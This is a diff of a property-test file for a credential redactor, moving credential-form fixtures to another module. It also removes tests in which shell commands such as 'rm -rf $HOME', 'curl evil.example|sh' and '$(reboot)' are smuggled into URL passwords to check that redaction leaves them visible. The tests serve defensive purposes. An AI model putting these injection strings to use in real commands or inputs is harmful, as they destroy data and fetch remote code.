@@ -6,71 +6,13 @@ import { redact } from '../../src/redact/redact.ts';
 import { redactData } from '../../src/redact/redact-data.ts';
 import { createRedactor, MAX_HELD } from '../../src/redact/redactor.ts';
 import { mixed } from './credentials.ts';
+import { FORMS, ID } from './forms.ts';
 
-const ID = `AK${'IA'}Q7XZ2MNB4KLPQ7XZ`;
 const LENGTHS = [8, 40, 255, 256, 257, 5_000] as const;
 /** The longest piece of a value that may be left. */
 const MAX_LEFT = 4;
 const KNOWN_BY_END = /:\/\/.*@|<\/|pass words/;
 
-/** What stands around a value `§`; all of it but the value is shown. */
-const FORMS: readonly string[] = [
-  'docker login -u AWS -p § 4711.dkr.ecr.eu-central-1.amazonaws.com',
-  'docker login -u AWS --password § registry',
-  "docker login -u ana -p '§' registry",
-  'curl -u ana:§ https://example.org',
-  'curl "https://example.org/a" --user "ana:§"',
-  `curl -H 'X-Note: ${'long '.repeat(100)}' -u ana:§ https://example.org`,
-  'curl -b sessionid=§ https://example.org',
-  'mysql -uroot -p§ shop',
-  'sshpass -p § ssh db',
-  'redis-cli -h cache -a § ping',
-  'redis-cli --pass § ping',
-  'mongosh -u ana -p § shop',
-  'ldapsearch -D cn=ana -w § -b dc=example',
-  'openssl rsa -in key.pem -passin pass:§ -out x.pem',
-  'openssl enc -aes256 -pass pass:§',
-  'keytool -list -storepass § -keystore x.jks',
-  'keytool -list -keypass § -keystore x.jks',
-  'requirepass §',
-  'CONFIG SET requirepass "§"',
-  'aws configure set aws_secret_access_key §',
-  'aws configure set aws_session_token § --profile x',
-  'https://u:§@h/',
-  'https://ana:§@example.org/shop.git',
-  'postgres://u:§@h',
-  'postgres://u:p#§@h',
-  'postgres://u:p?§@h',
-  // A shell ends an address at a blank, and what follows may be a flag: only in quotes is it hidden.
-  '"postgres://u:p §@h"',
-  '"postgres://u:§ x@h:5432/shop"',
-  'postgres://u:§/x@h',
-  'https://u:§#x@h/',
-  'https://x.blob.core.windows.net/c/a?sv=2024-01-01&sp=r&sig=§&se=2026',
-  'https://storage.googleapis.com/b/o?X-Goog-Date=1&X-Goog-Signature=§',
-  'https://b.s3.amazonaws.com/o?X-Amz-Expires=60&X-Amz-Signature=§&x=y',
-  'https://d1.cloudfront.net/a?Expires=1&Signature=§&x=1',
-  '{"url":"https://b.s3.amazonaws.com/o?x=1\\u0026X-Amz-Signature=§"}',
-  'https://d1.cloudfront.net/a?Key-Pair-Id=§',
-  `${ID}:§`,
-  'Cookie: sessionid=§; lang=en',
-  'Cookie: lang=en; sessionid=§',
-  'Set-Cookie: sessionid=§; Path=/; HttpOnly',
-  '"set-cookie": ["sid=§; Path=/"]',
-  'machine example.org login ana password §',
-  '  password §',
-  'Password for user root: §',
-  'the password is §, as before',
-  'your password is: "§"',
-  'ENV PASSWORD §',
-  'ENV API_TOKEN §',
-  'ARG TOKEN=§',
-  'PASSWORD\u00A0=\u00A0§',
-  'password:\u00A0§',
-  'client_secret\u00A0=\u00A0"§"',
-  '<password>§</password>',
-  '{"password":"pass words, and §"}',
-];
 /** The credential's own form says how long it is at least. */
 const LONG_FORMS: readonly string[] = [
   'https://§@github.com/x.git',
@@ -146,52 +88,6 @@ describe('a value of any length', () => {
       expect(left, shown).toEqual([]);
     },
   );
-});
-
-/** Forms with a quote around the value are left out: a shell runs nothing in it. */
-const UNQUOTED = FORMS.filter((form) => !/["'][^"']*§/.test(form) || /^curl -H/.test(form));
-
-describe('what a shell would run', () => {
-  const command = fc.constantFrom(...[';', '|', '&', '&&', ';;', '|&', '>', '(', ' ; ', ' && ']);
-  const piece = fc.constantFrom('', 'q7Z', mixed(30), 'a/b', '$HOME', 'x y');
-  property.prop([fc.constantFrom(...UNQUOTED), command, fc.tuple(piece, piece)], {
-    numRuns: 1_000,
-  })('stays visible in every form', (form, sign, [before, after]) => {
-    const text = form.replace('§', () => `${before}${sign}CMD${sign}${after}`);
-    expect(redact(text)).toContain('CMD');
-  });
-
-  it.each([
-    ['git clone https://u:p;rm -rf $HOME;x@h/x', ';rm -rf $HOME;x@h/x'],
-    ['curl https://u:p|sh@h/x', '|sh@h/x'],
-    ['curl https://u:p&wget evil;@h/x', '&wget evil;@h/x'],
-    ['psql postgres://u:p;rm -rf /data;x@h/db', ';rm -rf /data;x@h/db'],
-    ['redis-cli -u redis://:p;rm -rf /data;x@h/0', ';rm -rf /data;x@h/0'],
-    ['curl https://u:p&&rm -rf $HOME&&x@h/x', '&&rm -rf $HOME&&x@h/x'],
-    ['curl https://u:p|rm@h', '|rm@h'],
-    ['curl https://u:pw$(reboot)x@h', '$(reboot)x@h'],
-    ['echo url=postgres://u:p;curl evil.example|sh;x@h/db', ';curl evil.example|sh;x@h/db'],
-    [`curl https://gh${'p_'}${mixed(36)};rm;x@h/`, ';rm;x@h/'],
-    ['git clone https://u:p --upload-pack=evil x@h', ' --upload-pack=evil x@h'],
-    ['curl https://u;run:it@h', ';run:it@h'],
-    ['sh -c "curl https://u:p;reboot;x@h"', ';reboot;x@h"'],
-    ['echo "$(curl https://u:p;reboot;x@h)"', ';reboot;x@h)"'],
-    [`echo 'a\nb' https://u:p;reboot;x@h 'c'`, `;reboot;x@h 'c'`],
-    [`echo '\nb' https://u:p;reboot;x@h 'c'`.replace('\\n', '\n'), `;reboot;x@h 'c'`],
-    [`echo "password='"; reboot; echo "'"`, `; reboot; echo "'"`],
-    ['echo -----BEGIN PRIVATE KEY-----\npoweroff\n', '\npoweroff'],
-    ['echo -----BEGIN PRIVATE KEY----- && rm -rf /R2 && curl evil', ' && curl evil'],
-  ])('is seen in %s', (text, seen) => {
-    expect(redact(text)).toContain(seen);
-  });
-
-  it.each([
-    ['curl "https://u:p;q|r&s@h/x"', 'curl "https://u:[redacted: password]@h/x"'],
-    ["psql 'postgres://u:p;q r@h/x' -c x", "psql 'postgres://u:[redacted: password]@h/x' -c x"],
-    ['{"url": "redis://:p;q@h/0"}', '{"url": "redis://:[redacted: password]@h/0"}'],
-  ])('is not what stands in the quotes of %s', (text, shown) => {
-    expect(redact(text)).toBe(shown);
-  });
 });
 
 describe('words that are a password', () => {
